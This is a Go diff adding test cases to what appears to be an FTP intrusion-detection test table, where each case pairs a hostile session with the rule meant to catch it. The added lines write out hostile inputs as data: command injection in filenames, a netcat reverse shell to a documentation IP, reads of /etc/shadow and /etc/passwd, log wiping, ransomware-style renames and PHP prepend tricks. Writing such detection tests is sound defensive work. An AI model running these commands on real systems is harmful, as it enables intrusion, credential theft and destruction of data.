@@ -70,6 +70,24 @@ var attacks = []struct {
 	{"answers to another dialogue", "reply-fits-command", dialogue("< 220 ready\n> USER a\n< 331 ok\n+ 550 no\n> PWD\n< 226 done")},
 	{"a welcome before the password", "reply-answers-command", dialogue("< 220 ready\n> USER a\n< 331 ok\n< 230 in\n> PASS x")},
 	{"a name that overflows", "arguments-of-normal-length", session1("> RETR " + strings.Repeat("A", 4000) + "\n< 550 no")},
+	{"a bar in front of a name", "no-known-exploits", session1("> NLST\n< 150 here\n< 226 done\n> RETR |touch x\n< 150 here\n< 226 done")},
+	{"a shell's blank", "no-known-exploits", session1("> STOR a;curl${IFS}203.0.113.66\n< 553 no")},
+	{"braces in braces", "no-known-exploits", session1("> STAT " + strings.Repeat("{{*},", 20) + "{.}" + strings.Repeat("}", 20) + "\n< 213 ok")},
+	{"a new user of an AS/400", "no-known-exploits", session1("> RCMD CRTUSRPRF USRPRF(MALLORY) USRCLS(*SECOFR)\n< 250 ok")},
+	{"a link to the passwords", "no-known-exploits", session1("> SITE SYMLINK /etc/shadow notes.txt\n< 200 ok")},
+	{"traces that are removed", "files-are-kept", session1("> CWD /var/log\n< 250 ok\n> DELE wtmp\n< 250 ok\n> DELE lastlog\n< 250 ok")},
+	{"ransomware with its owner's address", "no-known-exploits", session1(numberedLines(4, "> RETR a%[1]d.xls\n< 150 here\n< 226 done\n> STOR a%[1]d.xls.id-7F.[me@x.test].harma\n< 150 go on\n< 226 done\n> DELE a%[1]d.xls\n< 250 ok\n"))},
+	{"a program whose name is nearly that of Windows'", "no-programs", moved("RETR svch0st.exe", answerer, "MZ\x90")},
+	{"one program for each processor, in sessions of its own", "no-programs", func(f *forge.Capture) {
+		for _, name := range strings.Fields("arm7 mips sh4 x86") {
+			moved("RETR "+name, answerer, "\x7fELF\x01")(f)
+		}
+	}},
+	{"a shell by way of a pipe with a name", "no-loot", moved("STOR REV", opener, "//STDPARM DD *\nSH mkfifo /tmp/f;cat /tmp/f|sh 2>&1|nc 203.0.113.66 4444 >/tmp/f\n")},
+	{"a picture that runs with every page", "no-loot", moved("STOR .user.ini", opener, "auto_prepend_file = img/logo.gif\n")},
+	{"a file of a printer", "no-loot", moved("STOR a.prn", opener, "\x1b%-12345X@PJL FSUPLOAD NAME=\"0:\\..\\..\\etc\\passwd\" OFFSET=0\r\n")},
+	{"a file of a printer, in PostScript", "no-loot", moved("STOR a.ps", opener, "%!PS\n/s 99 string def (/../../../etc/passwd) (r) file s readstring\n")},
+	{"a link that is a folder, too", "no-climbing", moved("LIST", answerer, "lrwxrwxrwx   1 root root   11 Oct 28  2014 x -> /root/.ssh\r\ndrwxrwxr-x  15 root root 4096 Oct 28  2014 x\r\n")},
 	{"a user that overflows", "arguments-of-normal-length", dialogue("< 220 ready\n> USER " + strings.Repeat("Aa0", 100) + "\n< 331 go on")},
 	{"a verb that overflows", "arguments-of-normal-length", session1("> TYP" + strings.Repeat("E", 120) + " I\n< 200 ok")},
 	{"folders that overflow a path", "arguments-of-normal-length", session1(strings.Repeat("> MKD "+strings.Repeat("A", 240)+"\n< 257 ok\n> CWD "+strings.Repeat("A", 240)+"\n< 250 ok\n", 6))},
